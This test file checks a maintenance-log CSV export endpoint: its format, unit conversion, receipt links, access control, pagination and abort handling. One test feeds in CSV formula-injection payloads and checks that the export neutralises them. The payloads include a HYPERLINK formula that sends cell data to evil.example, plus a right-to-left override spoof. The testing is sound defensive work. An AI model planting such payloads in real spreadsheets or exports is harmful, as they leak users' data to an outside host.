import { randomUUID } from 'node:crypto'
import { restoreCell } from '@tappet/upkeep'
import { storedReceipt } from '@tappet/wire'
import { decodeJwt } from 'jose'
import { describe, expect, it } from 'vitest'
import type { TestServer } from '../harness/server.ts'
import { startBothHosts } from './both-hosts.ts'
import { type Driver, type Entry, keepReceipt, keepRecords, newDriver, post } from './exports-account.ts'

let server: TestServer
const { hosts } = startBothHosts('export-csv', (started) => {
  server = started
})

const HEADER =
  'Item,Date,Mileage (miles),Cost,Currency,Shop,Notes,Receipt,Extra files,New odometer reads (miles)'

/** Makes the reading of a row called Slow wait, and take a lock at its own time limit. */
const WAITS = `create function public.waits() returns bool language plpgsql stable cost 1e6 as $$ begin
    perform pg_sleep(3600); return true;
  exception when query_canceled then perform pg_advisory_lock(4712); perform pg_sleep(3600); return true;
  end $$;
  grant execute on function public.waits() to authenticated;
  create policy waits on maintenance as restrictive for select to authenticated
    using (case when item = 'Slow' then public.waits() else true end)`

/** A file of RFC 4180, each quoted or plain cell as it was written. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [[]]
  for (const [, quoted, plain, end] of text
    .replace(/^\uFEFF/, '')
    .matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    if (end === '' && quoted === undefined && plain === '') break
    rows.at(-1)?.push(quoted === undefined ? (plain ?? '') : quoted.replaceAll('""', '"'))
    if (end === '\r\n') rows.push([])
  }
  return rows.filter((row) => row.length > 0)
}

describe.each(hosts)('export-csv on %s', (_, url) => {
  const exported = async (driver: Driver) => {
    const response = await post(url(), driver.token, { type: 'maintenance', user_id: driver.id })
    const bytes = new Uint8Array(await response.arrayBuffer())
    return { response, bytes, text: new TextDecoder('utf-8', { ignoreBOM: true, fatal: true }).decode(bytes) }
  }
  const rowsOf = readCsv

  it('answers a file of the caller’s records, for FREE too: BOM, header, ISO days, CRLF [API-038] [MNT-005]', async () => {
    const driver = await newDriver(server)
    await keepRecords(server, driver, [
      {
        date: '2026-03-05',
        mileage: 62_000,
        cost: 49.9,
        notes: 'Full synthetic, 0W-20',
        receipt_url: 'https://x.example/1.jpg',
      },
      { item: 'Tires', date: '2026-04-01' },
    ])
    const { response, bytes, text } = await exported(driver)
    expect(response.status).toBe(200)
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(response.headers.get('content-disposition')).toMatch(
      /^attachment; filename="tappet-maintenance-\d{4}-\d\d-\d\d\.csv"$/,
    )
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    expect(text).toBe(
      `\uFEFF${HEADER}\r\nTires,2026-04-01,,,,,,,,\r\n` +
        'Oil Change,2026-03-05,62000,49.90,USD,,"Full synthetic, 0W-20",https://x.example/1.jpg,,\r\n',
    )
  })

  it('writes the mileage in the driver’s unit, each kilometer as typed, and names the unit', async () => {
    const driver = await newDriver(server)
    await keepRecords(server, driver, [{ item: 'Tires', mileage: 62_000 }])
    const typed = {
      user_id: driver.id,
      item: 'Oil Change',
      date: '2026-05-02',
      mileage: 42_844,
      mileage_km: 68_950,
    }
    expect((await driver.client.from('maintenance').insert(typed)).error).toBeNull()
    const chosen = await driver.client.from('preferences').insert({ user_id: driver.id, distance_unit: 'km' })
    expect(chosen.error).toBeNull()
    const rows = rowsOf((await exported(driver)).text)
    expect(rows.map((row) => row[2])).toEqual(['Mileage (km)', '68950', '99779'])
  })

  it('names the caller’s receipts by links that open for 30 days, and the import knows them again', async () => {
    const [driver, other] = [await newDriver(server), await newDriver(server)]
    const [own, theirs] = [await keepReceipt(driver), await keepReceipt(other)]
    const gone = `${own}.png`
    await keepRecords(server, driver, [
      { date: '2026-03-05', receipt_url: own },
      { date: '2026-03-04', receipt_url: theirs },
      { date: '2026-03-03', receipt_url: gone, extra_files: `${own} https://x.example/2.pdf` },
    ])
    const rows = rowsOf((await exported(driver)).text).slice(1)
    const cells = rows.map((row) => row.at(-3) ?? '')
    const [link = ''] = cells
    const [extra = '', ...elsewhere] = rows[2]?.at(-2)?.split(' ') ?? []
    expect([storedReceipt(extra), elsewhere]).toEqual([own, ['https://x.example/2.pdf']])
    expect((await fetch(extra)).status).toBe(200)
    expect(cells.slice(1)).toEqual([theirs, gone])
    expect(storedReceipt(link)).toBe(own)
    const answers = await Promise.all([own, link, theirs].map((address) => fetch(address)))
    expect(answers.map(({ status }) => status)).toEqual([400, 200, 400])
    expect(answers[1]?.headers.get('content-type')).toBe('image/png')
    const [{ iat = 0, exp = 0 }] = [decodeJwt(new URL(link).searchParams.get('token') ?? '')]
    expect(exp - iat).toBe(30 * 86_400)
  })

  it('gives nobody else’s records, and refuses to be asked for them [API-038]', async () => {
    const [ada, ben] = [await newDriver(server), await newDriver(server, 'PRO')]
    await keepRecords(server, ada, [{ item: 'Ada’s' }])
    await keepRecords(server, ben, [{ item: 'Ben’s' }])
    expect((await exported(ada)).text).not.toContain('Ben’s')
    const foreign = await post(url(), ada.token, { type: 'maintenance', user_id: ben.id })
    expect([foreign.status, await foreign.json()]).toEqual([
      403,
      { error: 'You can export your own records only', code: 'forbidden' },
    ])
    const visitor = await post(url(), server.anonKey, { type: 'maintenance', user_id: ada.id })
    expect(visitor.status).toBe(401)
    await visitor.text()
  })

  it('says what is wrong with any other body [API-038]', async () => {
    const driver = await newDriver(server)
    for (const [body, field] of [
      [{ type: 'history', user_id: driver.id }, 'type'],
      [{ type: 'maintenance' }, 'user_id'],
      [{ type: 'maintenance', user_id: 'me' }, 'user_id'],
      [{}, 'type'],
    ] as const) {
      const response = await post(url(), driver.token, body)
      expect(response.status).toBe(400)
      expect((await response.json()).error).toContain(field)
    }
  })

  it('leaves no formula to run, and loses no letter of what was written', async () => {
    const driver = await newDriver(server)
    const hostile: Entry[] = [
      '=HYPERLINK("http://evil.example?"&A1,"win")',
      '+1-800',
      '-2+3',
      '@SUM(1)',
      '\t=1',
      '\r=1',
      '\n=1',
      '＝HYPERLINK("http://evil.example?"&A1,"win")',
      '＋1',
      '－1',
      '＠SUM(1)',
      "'=quoted",
      'plain',
      'a "quoted", word',
      'two\r\nlines',
      'one\nline',
      'مرحبا بالعالم',
      '\u202Egnp.exe',
      '🚗💨 👨‍👩‍👧',
      'x'.repeat(10_000),
      '日本語',
      'ﾊﾝｶｸ',
    ].map((notes, index) => ({ item: notes.slice(0, 150).trim() || 'x', notes, mileage: index, cost: index }))
    await keepRecords(server, driver, hostile)
    const { text } = await exported(driver)
    const rows = rowsOf(text).slice(1)
    expect(rows).toHaveLength(hostile.length)
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/)
    const back = rows.map((row) => row.map(restoreCell)).sort((a, b) => Number(a[2]) - Number(b[2]))
    const notes = HEADER.split(',').indexOf('Notes')
    expect(back.map((row) => [row[0], row[notes]])).toEqual(hostile.map(({ item, notes }) => [item, notes]))
  })

  it('gives every record once, however many, the newest first', async () => {
    const driver = await newDriver(server)
    // Many on the same day, so that a page ends in the middle of one.
    const entries = Array.from({ length: 2_345 }, (_, index) => ({
      item: `Record ${index}`,
      date: `2026-0${1 + (index % 3)}-15`,
    }))
    await keepRecords(server, driver, entries)
    const rows = rowsOf((await exported(driver)).text).slice(1)
    expect(new Set(rows.map(([item]) => item)).size).toBe(2_345)
    expect(rows).toHaveLength(2_345)
    const days = rows.map(([, day]) => day ?? '')
    expect(days).toEqual(days.toSorted().reverse())
  })

  it('gives an empty log as a header', async () => {
    const driver = await newDriver(server)
    expect((await exported(driver)).text).toBe(`\uFEFF${HEADER}\r\n`)
  })
})

describe('export-csv', () => {
  it('can be called as the app calls it [ERR-023]', async () => {
    const driver = await newDriver(server)
    await keepRecords(server, driver, [{ item: 'Oil Change' }])
    const { data, error } = await driver.client.functions.invoke('export-csv', {
      body: { type: 'maintenance', user_id: driver.id },
    })
    expect(error).toBeNull()
    // fetch's text() takes the mark off; who saves it puts it back.
    expect(data).toBe(`${HEADER}\r\nOil Change,2026-05-01,,,,,,,,\r\n`)
  })

  it('reads on where a server cuts its answers short', async () => {
    const driver = await newDriver(server)
    await keepRecords(
      server,
      driver,
      Array.from({ length: 25 }, (_, n) => ({ item: `Record ${n}` })),
    )
    const { logPages } = await import('../../supabase/functions/_serve/log-pages.ts')
    const { createClient } = await import('@supabase/supabase-js')
    const short = createClient(server.url, server.anonKey, {
      accessToken: async () => driver.token,
      global: { fetch: (input, init) => fetch(String(input).replace('limit=1000', 'limit=10'), init) },
    })
    const pages: string[][] = []
    const { signal } = new AbortController()
    for await (const page of logPages(short, driver.id, null, signal))
      pages.push(page.map(({ item }) => item))
    expect(pages.map((page) => page.length)).toEqual([10, 10, 5])
    expect(new Set(pages.flat()).size).toBe(25)
  })

  it.each([
    ['before anything is answered', 1],
    ['in the middle of the file', 1_500],
  ])('takes the page along that is read for a client that goes %s', async (_when, records) => {
    const driver = await newDriver(server)
    const log = Array.from({ length: records - 1 }, () => ({ item: 'Oil Change' }))
    await keepRecords(server, driver, [...log, { item: 'Slow', date: '2020-01-01' }])
    await server.admin('analyze maintenance')
    await server.admin(WAITS)
    const running = () =>
      server.admin(`select exists (select from pg_locks where locktype = 'advisory' and objid = 4712) as limited
        from pg_stat_activity where wait_event = 'PgSleep' and query like '%maintenance%'`)
    try {
      const gone = new AbortController()
      const answer = fetch(`${server.url}/functions/v1/export-csv`, {
        method: 'POST',
        headers: { Authorization: `Bearer ${driver.token}`, 'Content-Type': 'application/json' },
        body: JSON.stringify({ type: 'maintenance', user_id: driver.id }),
        signal: gone.signal,
      })
      if (records > 1_000) expect((await answer).status).toBe(200)
      await expect.poll(running).toEqual([{ limited: false }])
      gone.abort()
      await expect(answer.then((response) => response.text())).rejects.toThrow('aborted')
      let isLimited = false
      const left = async () => {
        const rows = await running()
        isLimited ||= rows.some(({ limited }) => limited)
        return rows
      }
      await expect.poll(left).toEqual([])
      expect(isLimited).toBe(false)
    } finally {
      await server.admin('drop policy waits on maintenance; drop function public.waits()')
    }
  })

  it('says plainly that it failed when the log cannot be read, instead of sending half a file', async () => {
    const driver = await newDriver(server)
    await server.admin('revoke select on maintenance from authenticated')
    const response = await post(`${server.url}/functions/v1/export-csv`, driver.token, {
      type: 'maintenance',
      user_id: driver.id,
    })
    await server.admin('grant select on maintenance to authenticated')
    expect([response.status, (await response.json()).code]).toEqual([500, 'internal'])
  })

  it('refuses every user_id but the caller’s', async () => {
    const driver = await newDriver(server)
    const response = await post(`${server.url}/functions/v1/export-csv`, driver.token, {
      type: 'maintenance',
      user_id: randomUUID(),
    })
    expect(response.status).toBe(403)
    await response.text()
  })
})
